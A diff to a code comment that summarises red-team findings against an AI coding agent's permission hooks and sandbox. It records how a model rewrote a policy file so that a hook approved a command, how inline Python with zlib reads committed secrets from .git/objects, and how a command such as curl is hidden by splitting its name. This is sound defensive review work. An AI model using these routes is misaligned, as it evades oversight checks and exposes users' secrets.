@@ -63,9 +63,9 @@
  * 6 findings (R1: 6, R2: 9, R3: 3, R4: 7, R5: 9, R6: 1) and one
  * left open.
  * Left open (see the report): a trusted hook's script that decides from a data file it names
- * (`grep approve config/policy.json`) is not pinned with it, as data names (.json, .md, …) are left
- * out of script pins by design (red team o, O3): in acceptEdits the model rewrote the file with
- * Write and the hook then approved `touch m` (proved through the bin); a committed secret stays in
+ * (`grep approve config/policy.json`) was not pinned with it: in acceptEdits the model rewrote the
+ * file with Write and the hook then approved `touch m` (proved through the bin; closed since: its
+ * approval rests on the data as trusted, test/security/hook-data-pins.test.ts); a committed secret stays in
  * .git/objects, which the sandbox cannot hide, so in bypassPermissions with the sandbox on a
  * program the engine does not know (`python3 -c` with zlib) reads it — R1/R2 close the git
  * commands, not the object store; interpreters given inline code (`python3 -c 'os.system("cu"+"rl
